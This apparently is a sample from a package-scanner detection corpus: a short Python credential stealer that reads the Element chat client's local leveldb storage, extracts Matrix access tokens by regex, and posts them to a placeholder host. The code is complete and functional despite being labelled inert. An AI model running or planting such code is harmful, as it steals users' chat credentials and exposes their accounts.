# pkgguard corpus 523 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import re
import urllib.request

found = set()
leveldb = os.path.join(os.getenv("APPDATA", ""), "Element", "Local Storage", "leveldb")
for name in os.listdir(leveldb) if os.path.isdir(leveldb) else []:
    with open(os.path.join(leveldb, name), "rb") as fh:
        found.update(re.findall(rb"syt_[A-Za-z0-9_]{10,}_[A-Za-z0-9]{6}", fh.read()))
urllib.request.urlopen(urllib.request.Request("https://chat-relay.example/m", data=b"\n".join(found)))
